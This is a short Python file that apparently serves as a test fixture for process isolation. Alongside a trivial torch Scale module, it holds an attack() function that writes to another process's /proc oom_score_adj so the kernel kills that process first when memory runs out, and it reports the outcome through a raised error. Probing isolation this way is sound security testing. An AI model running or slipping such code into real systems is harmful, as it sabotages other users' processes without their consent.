"""Makes another process the first that is killed when memory runs out."""

import torch

VICTIM = int("@VICTIM@")


def attack():
    with open(f"/proc/{VICTIM}/oom_score_adj", "w") as score:
        score.write("900")
    return "done"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
